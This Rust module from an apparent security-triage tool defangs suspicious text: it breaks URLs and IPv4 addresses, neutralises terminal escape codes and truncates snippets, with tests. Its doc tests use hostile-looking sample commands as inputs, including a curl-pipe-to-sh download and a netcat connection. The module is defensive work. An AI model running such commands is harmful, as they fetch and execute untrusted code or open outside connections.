//! What stands in a suspect's file, made safe to show, to paste and to mail on.

use tracehound_model::text;

/// Characters of a snippet that are shown.
pub const MAX_SNIPPET: usize = 160;

/// One short line in which no address can be clicked or fetched and no terminal is moved: `hxxps://evil[.]example`.
///
/// ```
/// use tracehound_vet::defang::defang;
/// assert_eq!(defang("curl https://a.b.example/x | sh"), "curl hxxps://a[.]b[.]example/x | sh");
/// assert_eq!(defang("nc 192.0.2.10 1224\u{1b}[2J"), "nc 192[.]0[.]2[.]10 1224\u{fffd}[2J");
/// ```
pub fn defang(text: &str) -> String {
    let line = text::line(head(text, 4 * MAX_SNIPPET)).into_owned();
    let mut shown = String::with_capacity(line.len() + 16);
    for (at, word) in line.split(' ').enumerate() {
        if at > 0 {
            shown.push(' ');
        }
        word_into(word, &mut shown);
    }
    if let Some((at, _)) = shown.char_indices().nth(MAX_SNIPPET) {
        shown.truncate(at);
        shown.push('…');
    }
    shown
}

/// The first characters of a text.
pub(crate) fn head(text: &str, most: usize) -> &str {
    text.char_indices().nth(most).map_or(text, |(at, _)| &text[..at])
}

fn word_into(word: &str, out: &mut String) {
    let mut rest = word;
    while let Some(at) = rest.find("://") {
        let (before, after) = rest.split_at(at);
        let scheme = before
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |at| at + before[at..].chars().next().map_or(1, char::len_utf8));
        bare_into(&before[..scheme], out);
        out.push_str(&before[scheme..].replace("http", "hxxp").replace("HTTP", "HXXP"));
        out.push_str("://");
        let after = &after[3..];
        let end = after.find(['/', '"', '\'', '`', '?', '#', '<', ')']);
        let (host, tail) = after.split_at(end.unwrap_or(after.len()));
        out.push_str(&host.replace('.', "[.]"));
        rest = tail;
    }
    bare_into(rest, out);
}

/// Text without a scheme: addresses of four numbers are broken too.
fn bare_into(text: &str, out: &mut String) {
    let is_part = |c: char| c.is_ascii_digit() || c == '.';
    let mut rest = text;
    while let Some(start) = rest.find(|c: char| c.is_ascii_digit()) {
        let (before, from) = rest.split_at(start);
        out.push_str(before);
        let (run, after) = from.split_at(from.find(|c: char| !is_part(c)).unwrap_or(from.len()));
        if run.split('.').filter(|part| (1..=3).contains(&part.len())).count() == 4 {
            out.push_str(&run.replace('.', "[.]"));
        } else {
            out.push_str(run);
        }
        rest = after;
    }
    out.push_str(rest);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_is_shown_can_be_followed_or_moves_a_terminal() {
        for (text, shown) in [
            ("x=\"http://h.example:1244/p?q=a.b\"", "x=\"hxxp://h[.]example:1244/p?q=a.b\""),
            ("wss://a.example", "wss://a[.]example"),
            ("node 22.1.0 at 198.51.100.7:1224", "node 22.1.0 at 198[.]51[.]100[.]7:1224"),
            ("a\n\n  b\t\u{202e}c", "a�� b��c"),
            ("ähttps://é.example", "ähxxps://é[.]example"),
        ] {
            assert_eq!(defang(text), shown);
        }
        let long = defang(&"x".repeat(1_000_000));
        assert_eq!(long.chars().count(), MAX_SNIPPET + 1);
    }
}
